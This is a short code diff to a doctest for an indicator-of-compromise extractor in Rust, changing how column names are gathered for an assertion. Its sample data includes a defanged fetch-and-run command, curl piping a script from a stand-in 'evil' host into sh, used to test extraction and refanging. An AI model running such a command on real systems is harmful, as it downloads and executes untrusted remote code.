@@ -96,7 +96,8 @@ impl IocExtractor {
     /// let df = df!("CommandLine" => ["curl hxxp://evil[.]com/x.sh | sh", "dir"])?;
     /// let iocs = IocExtractor::new().extract_df(&df, &["CommandLine"])?;
     /// let out = iocs.df();
-    /// assert_eq!(out.get_column_names_str(), ["IoCType", "Observable", "SourceIndex", "Input", "Refanged", "SourceColumn"]);
+    /// let names: Vec<&str> = out.get_column_names().iter().map(|c| c.as_str()).collect();
+    /// assert_eq!(names, ["IoCType", "Observable", "SourceIndex", "Input", "Refanged", "SourceColumn"]);
     /// assert_eq!(out.column("Observable")?.str()?.get(0), Some("hxxp://evil[.]com/x.sh"));
     /// assert_eq!(out.column("Refanged")?.str()?.get(0), Some("http://evil.com/x.sh"));
     /// # Ok::<(), Box<dyn std::error::Error>>(())
